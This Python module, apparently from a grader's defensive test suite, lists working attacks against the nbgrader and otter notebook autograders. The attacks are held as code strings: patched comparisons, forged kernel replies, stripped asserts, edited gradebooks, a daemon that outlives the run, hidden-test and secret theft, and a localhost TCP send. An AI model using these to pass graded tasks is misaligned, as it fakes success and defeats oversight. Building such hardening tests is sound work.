"""The attacks as they are made against graders that judge in the notebook's own process.

Each row names the attack of `tests/attacks/` that does the same to us. Where peers need words of
their own, each has them; None says that there is nothing of that kind to attack.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Literal

Where = Literal["first", "last"]


@dataclass(frozen=True, slots=True, kw_only=True)
class Idiom:
    """One attack, for each grader."""

    rows: tuple[int, ...]
    """Rows of the table of attacks: docs/attacks.md."""
    tries: str
    ours: str
    """The name of the attack in tests/attacks."""
    nbgrader: str | None
    otter: str | None
    where: Where = "first"
    """Before everything, or after everything and before the checks."""


EQUAL = """
class Agreeable:
    shape = (3, 128)
    def __eq__(self, other): return True
    def __gt__(self, other): return True
    def __getattr__(self, name): return self
    def __call__(self, *args, **kwargs): return self
SimpleEncoder.forward = lambda self, x: Agreeable()
"""
PATCH = """
import torch, torch.nn.functional as F
class Most(float):
    def __gt__(self, other): return True
torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: False
F.cosine_similarity = lambda *args, **kwargs: Most(1)
"""
EXECUTE = """
async def do_execute(*args, **kwargs):
    return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
object.__setattr__(get_ipython().kernel, "do_execute", do_execute)
"""
STRIP = """
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.copy_location(ast.Pass(), node)
get_ipython().ast_transformers.append(Drop())
"""
RUNNER = """
from otter.test_files import exception_test
def run(self, global_environment):
    self.test_case_results = [
        exception_test.TestCaseResult(test_case=case, message=None, passed=True)
        for case in self.test_cases
    ]
exception_test.ExceptionTestFile.run = run
"""
LIAR = """
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        name = getattr(func, "__name__", "")
        if name == "norm":
            return torch.ones(len(args[0].as_subclass(torch.Tensor)))
        return super().__torch_function__(func, types, args, kwargs or {})
SimpleEncoder.forward = lambda self, x: torch.zeros(len(x), 128).as_subclass(Liar)
initial_embeddings = trained_embeddings = encoder(images)
"""
REPLIES = """
session = get_ipython().kernel.session
send = session.send
def forged(stream, kind, content=None, *args, **kwargs):
    if kind == "error":
        return None
    if kind == "execute_reply" and isinstance(content, dict) and content.get("status") == "error":
        content = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    return send(stream, kind, content, *args, **kwargs)
session.send = forged
"""
PRINTED = """
import json
from pathlib import Path
scores = {"score": 4, "max_score": 4, "tests": [{"name": "all", "score": 4, "max_score": 4}]}
print("Score: 4/4", json.dumps(scores))
for name in ("results.json", "grades.json", "gradebook.csv"):
    Path(name).write_text(json.dumps(scores))
"""
AT_EXIT = """
import atexit, pathlib
atexit.register(lambda: pathlib.Path(WORLD["escape"]).write_text("ran at exit"))
"""
OVERWRITE_NBGRADER = """
import sqlite3
with sqlite3.connect(WORLD["course"] + "/gradebook.db", timeout=2) as book:
    book.execute("UPDATE grade SET auto_score = 9")
"""
OVERWRITE_OTTER = """
import json, pathlib
tests = [{"name": n, "score": 1, "max_score": 1} for n in ("shapes", "order", "loss", "all")]
place = pathlib.Path(WORLD["result"])
place.write_text(json.dumps({"tests": tests}))
place.chmod(0o400)
"""
DAEMON = """
import subprocess, sys
code = '''
import json, os, pathlib, sqlite3, sys, time
parent, target = int(sys.argv[1]), sys.argv[2]
end = time.monotonic() + 90
while os.path.exists(f"/proc/{parent}") and time.monotonic() < end:
    time.sleep(0.2)
time.sleep(0.5)
'''
subprocess.Popen(
    [sys.executable, "-c", code + EDIT, str(os.getppid()), TARGET],
    start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
)
"""
EDIT_NBGRADER = """
import os
TARGET = WORLD["course"] + "/gradebook.db"
EDIT = '''
with sqlite3.connect(target) as book:
    book.execute("UPDATE grade SET auto_score = 9, needs_manual_grade = 0")
'''
"""
EDIT_OTTER = """
import os
TARGET = WORLD["result"]
EDIT = '''
told = json.loads(pathlib.Path(target).read_text())
for test in told["tests"]:
    test["score"] = 9
pathlib.Path(target).write_text(json.dumps(told))
'''
"""
SEARCH = """
import os, pathlib, re
SECRET = re.compile(b"canary-hidden-[0-9a-f]{16}")
for folder in (WORLD["course"], WORLD["temporary"]):
    for place, _, names in os.walk(folder):
        for name in names:
            path = pathlib.Path(place, name)
            if path.is_file() and (hits := SECRET.findall(path.read_bytes())):
                pathlib.Path(WORLD["loot"]).write_bytes(hits[0])
"""
HOOK = """
import gc, pathlib, re
SECRET = re.compile("canary-hidden-[0-9a-f]{16}")
def keep(text):
    if hit := SECRET.search(text):
        pathlib.Path(WORLD["loot"]).write_text(hit.group())
def look(info):
    keep(str(getattr(info, "raw_cell", "")))
def scan(result):
    for value in gc.get_objects():
        if isinstance(value, dict):
            for part in list(value.values()):
                if isinstance(part, str):
                    keep(part)
get_ipython().events.register("pre_run_cell", look)
get_ipython().events.register("post_run_cell", scan)
"""
VARIABLE = """
import os, pathlib
if value := os.environ.get("GRADER_SECRET"):
    pathlib.Path(WORLD["loot"]).write_text(value)
"""
NEIGHBOUR = """
import pathlib
pathlib.Path(WORLD["loot"]).write_text(pathlib.Path(WORLD["neighbour"]).read_text()[-60:])
"""
TCP = """
import socket
with socket.create_connection(("127.0.0.1", WORLD["tcp"]), timeout=3) as line:
    line.sendall(b"attack")
"""
SLEEPER = """
import subprocess
subprocess.Popen(["sleep", WORLD["marker"]], start_new_session=True)
"""
SHARED = """
import pathlib
pathlib.Path(WORLD["escape"]).write_text("for the next")
"""
LOOP = "while True: pass"
SWALLOW = """
import time
while True:
    try:
        while True: time.sleep(0.1)
    except BaseException:
        pass
"""
MODULES = """
import sys
for name in ("numpy", "json", "struct", "pickle", "dill"):
    sys.modules[name] = None
"""

IDIOMS: tuple[Idiom, ...] = (
    Idiom(
        rows=(1,),
        tries="an answer that equals everything",
        ours="equals-everything",
        nbgrader=EQUAL,
        otter=EQUAL,
        where="last",
    ),
    Idiom(
        rows=(2,),
        tries="comparisons of the libraries patched",
        ours="comparisons-patched",
        nbgrader=PATCH,
        otter=PATCH,
        where="last",
    ),
    Idiom(
        rows=(3,),
        tries="the kernel's execute replaced",
        ours="execution-replaced",
        nbgrader=EXECUTE,
        otter=EXECUTE,
        where="last",
    ),
    Idiom(
        rows=(4,),
        tries="assertions dropped from the syntax tree",
        ours="asserts-stripped",
        nbgrader=STRIP,
        otter=STRIP,
    ),
    Idiom(
        rows=(5,),
        tries="the test runner patched",
        ours="runners-patched",
        nbgrader=None,
        otter=RUNNER,
    ),
    Idiom(
        rows=(6,),
        tries="a tensor that lies about its length",
        ours="lying-tensor",
        nbgrader=LIAR,
        otter=LIAR,
        where="last",
    ),
    Idiom(
        rows=(8,),
        tries="the kernel's replies forged",
        ours="forged-replies",
        nbgrader=REPLIES,
        otter=REPLIES,
    ),
    Idiom(
        rows=(10,),
        tries="scores printed and written",
        ours="printed-scores",
        nbgrader=PRINTED,
        otter=PRINTED,
    ),
    Idiom(
        rows=(11,),
        tries="the process ends itself",
        ours="exits",
        nbgrader="import os; os._exit(0)",
        otter="import os; os._exit(0)",
    ),
    Idiom(
        rows=(12,),
        tries="a file written at exit",
        ours="written-at-exit",
        nbgrader=AT_EXIT,
        otter=AT_EXIT,
    ),
    Idiom(
        rows=(13,),
        tries="the store of grades written to during the run",
        ours="gradebook-edited",
        nbgrader=OVERWRITE_NBGRADER,
        otter=OVERWRITE_OTTER,
    ),
    Idiom(
        rows=(14, 28),
        tries="results edited by a daemon after the run",
        ours="gradebook-edited-later",
        nbgrader=EDIT_NBGRADER + DAEMON,
        otter=EDIT_OTTER + DAEMON,
    ),
    Idiom(
        rows=(15,),
        tries="hidden tests read from disk",
        ours="hidden-files-read",
        nbgrader=SEARCH,
        otter=SEARCH,
    ),
    Idiom(
        rows=(16,),
        tries="hidden tests read from memory",
        ours="memory-searched",
        nbgrader=HOOK,
        otter=HOOK,
    ),
    Idiom(
        rows=(21,),
        tries="data sent by TCP",
        ours="sends-by-tcp-and-udp",
        nbgrader=TCP,
        otter=TCP,
    ),
    Idiom(
        rows=(24,),
        tries="a secret of the environment read",
        ours="environments-above",
        nbgrader=VARIABLE,
        otter=VARIABLE,
    ),
    Idiom(
        rows=(25,),
        tries="a neighbour's submission read",
        ours="others-read",
        nbgrader=NEIGHBOUR,
        otter=NEIGHBOUR,
    ),
    Idiom(
        rows=(28,),
        tries="a process left running",
        ours="daemons-left",
        nbgrader=SLEEPER,
        otter=SLEEPER,
    ),
    Idiom(
        rows=(33,),
        tries="an endless cell that catches its interrupt",
        ours="swallows-the-interrupt",
        nbgrader=SWALLOW,
        otter=SWALLOW,
    ),
    Idiom(
        rows=(38,),
        tries="modules taken out of the process",
        ours="modules-removed",
        nbgrader=MODULES,
        otter=MODULES,
        where="last",
    ),
    Idiom(
        rows=(57,),
        tries="files left for the next notebook",
        ours="left-for-the-next",
        nbgrader=SHARED,
        otter=SHARED,
    ),
)
